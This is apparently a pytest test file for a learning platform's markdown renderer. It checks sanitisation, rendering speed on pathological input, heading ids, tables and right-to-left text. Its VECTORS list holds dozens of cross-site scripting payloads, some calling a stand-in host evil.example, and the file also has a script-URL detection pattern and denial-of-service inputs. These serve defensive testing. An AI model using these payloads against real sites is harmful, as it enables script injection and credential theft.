"""Markdown becomes the HTML we mean, whatever is written, and quickly."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from lms.courses import markdown

ALLOWED = frozenset(
    (
        *("p", "br", "hr", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
        *("table", "thead", "tbody", "tr", "th", "td", "div", "bdi", "h2", "h3", "h4"),
    )
)
SCRIPTED = re.compile(r"^\s*(javascript|vbscript|data|file|blob)\s*:", re.IGNORECASE)
VECTORS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<svg onload=alert(1)><script>alert(1)</script></svg>
<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<a href="javascript:alert(1)">x</a>
<details open ontoggle=alert(1)>
<body onload=alert(1)>
<style>@import 'https://evil.example'</style>
<link rel=stylesheet href=//evil.example>
<base href=//evil.example>
<form action=//evil.example><input name=password></form>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#115;cript:alert(1))
[x](java\tscript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](  javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2Zy8+)
[x](file:///etc/passwd)
[x](blob:https://x/y)
[x](<javascript:alert(1)>)
[x]: javascript:alert(1)
<javascript:alert(1)>
<data:text/html,x>
![x](javascript:alert(1))
![x](x" onerror="alert(1))
![x](https://evil.example/track.gif)
[x](https://ok.example "title\\" onmouseover=\\"alert(1)")
[x](https://ok.example" onclick="alert(1))
[<img src=x onerror=alert(1)>](https://ok.example)
`<img src=x onerror=alert(1)>`
**<img src=x onerror=alert(1)>**
# <img src=x onerror=alert(1)>
## x" onclick="alert(1)
## main
| <script>alert(1)</script> | "onx=" |
{{fact:x" onclick="alert(1)}}
{{fact:<script>}}
{{fact-text:x}} {{label:table}} {{ config }} {% print 1 %}
> <script>alert(1)</script>
1. <script>alert(1)</script>
\\<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
\u202e<script>alert(1)</script>
\u0000<script>alert(1)</script>
""".strip().split("\n")
FENCES = ['```html"><script>alert(1)</script>\nx\n```', "~~~ x onclick=alert(1)\n<b>\n~~~"]
TABLE = "| a | b |\n|---|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"


class Seen(HTMLParser):
    """Every tag and attribute as a browser's tokeniser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


@pytest.mark.parametrize("text", [*VECTORS, *FENCES, TABLE, "\n".join(VECTORS)])
def test_hostile_markdown_leaves_nothing_that_runs(text: str) -> None:
    seen = Seen(markdown.render(text))
    assert seen.tags <= ALLOWED
    assert not [name for _tag, name, _value in seen.attributes if name.startswith("on")]
    assert not [
        name for _tag, name, _value in seen.attributes if name in {"style", "src", "srcdoc"}
    ]
    assert not [value for _tag, name, value in seen.attributes if SCRIPTED.match(value)]


def test_raw_html_is_shown_as_it_was_typed() -> None:
    assert markdown.render("a <b>c</b>") == "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n"


PROSE = """## A heading

Some *words* that run on as words in a lesson do, with a [link](https://x.example) among them,
and on to a second line, because people break their lines, or their editors do it for them.

- one of the things to do
- another, with `code` in it

"""
N = 100_000
SLOW = {
    "open brackets": "[" * N,
    "nested brackets": "[" * (N // 2) + "]" * (N // 2),
    "links never closed": "[a](" * (N // 4),
    "references": "[a]: " + "b" * (N // 2) + "\n\n" + "[a]" * (N // 6),
    "references never closed": "[a\n" * (N // 3),
    "emphasis": "*a **b " * (N // 7),
    "delimiters": "*_" * (N // 2),
    "growing code spans": "".join("`" * i + " " for i in range(1, 446)),
    "quotes": ">" * N,
    "nested lists": "- " * (N // 2),
    "many items": "- a\n" * (N // 4),
    "deep lists": "\n".join("  " * i + "- a" for i in range(300)),
    "wide table": "|a" * (N // 4) + "|\n" + "|-" * (N // 4) + "|\n",
    "short rows": "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + "|a\n" * 30_000,
    "headings": "# a\n" * (N // 4),
    "the same heading": "## same heading\n\n" * (N // 17),
    "underlined headings": "a\n=\n" * (N // 4),
    "entities": "&amp;" * (N // 5),
    "tags": "<a " * (N // 3),
    "comments": "<!--" * (N // 4),
    "facts": "{{fact:a}}" * (N // 10),
    "facts never closed": ("{{ " + " " * 50) * (N // 53),
    "one line": "a" * N,
    "newlines": "\n" * N,
    "all at once": "[*`_" * (N // 4),
    "prose": (PROSE * N)[:N],
}


@pytest.mark.parametrize("name", SLOW)
def test_a_hundred_kilobytes_render_within_a_second(name: str) -> None:
    began = time.process_time()
    html = markdown.render(SLOW[name])
    assert time.process_time() - began < 1
    assert len(html) < 3_000_000


def test_a_tangled_text_is_shown_as_it_was_typed() -> None:
    assert markdown.render("[<b>" * 10_000).startswith('<pre dir="auto" tabindex="0">[&lt;b&gt;')
    assert not markdown.is_tangled(SLOW["prose"])


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("# One", '<h2 id="s-one">One</h2>'),
        ("## Price your *work*!", '<h2 id="s-price-your-work">Price your <em>work</em>!</h2>'),
        ("### تین باتیں", '<h3 id="s-تین-باتیں">تین باتیں</h3>'),
        ("###### Deep", '<h4 id="s-deep">Deep</h4>'),
        ("## …", '<h2 id="s-part">…</h2>'),
    ],
)
def test_headings_go_from_h2_to_h4_and_have_an_address(source: str, html: str) -> None:
    assert markdown.render(source).strip() == html


def test_addresses_of_headings_are_unique_on_a_page() -> None:
    taken: dict[str, int] = {}
    html = markdown.render("## Do\n\n## Do", taken) + markdown.render("## Do\n\n## Do 2", taken)
    assert re.findall('id="([^"]+)"', html) == ["s-do", "s-do_2", "s-do_3", "s-do-2"]


def test_an_empty_corner_heads_nothing_and_the_cells_below_it_head_their_rows() -> None:
    html = markdown.render("| | a |\n|---|---|\n| x | 1 |\n| y | 2 |").replace("\n", "")
    assert '<thead><tr><td></td><th scope="col">a</th></tr></thead>' in html
    assert '<tr><th scope="row">x</th><td>1</td></tr>' in html


def test_a_table_scrolls_in_a_frame_that_the_keyboard_reaches() -> None:
    html = markdown.render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<div class="scroll" role="group" tabindex="0" aria-label="{{label:table}}">' in html
    assert '<th scope="col">a</th>' in html
    assert '<td class="n">2</td>' in html


def test_links_give_nothing_away_and_addresses_keep_their_order() -> None:
    assert 'rel="noopener noreferrer"' in markdown.render("[x](https://a.example)")
    assert '<bdi dir="ltr" lang="en">https://a.example</bdi>' in markdown.render(
        "<https://a.example>"
    )


def test_code_stays_left_to_right_inside_urdu() -> None:
    assert '<code dir="ltr">=A1*2</code>' in markdown.render("یہ `=A1*2` لکھیں")
    assert '<pre dir="ltr" tabindex="0"><code>x\n</code></pre>' in markdown.render("```\nx\n```")


def test_a_fact_leaves_its_mark_and_no_link_within_a_link() -> None:
    html = markdown.render("{{ fact:fv.fee }} [{{fact:fv.fee}}](https://a.example)")
    assert html.startswith("<p>{{fact:fv.fee}} <a ")
    assert ">{{fact-text:fv.fee}}</a>" in html


def test_words_are_counted_without_marks() -> None:
    assert markdown.word_count("## Two words\n\n- and **three** more\n\n`code`") == 6
    assert markdown.word_count("یہ چار لفظ ہیں") == 4
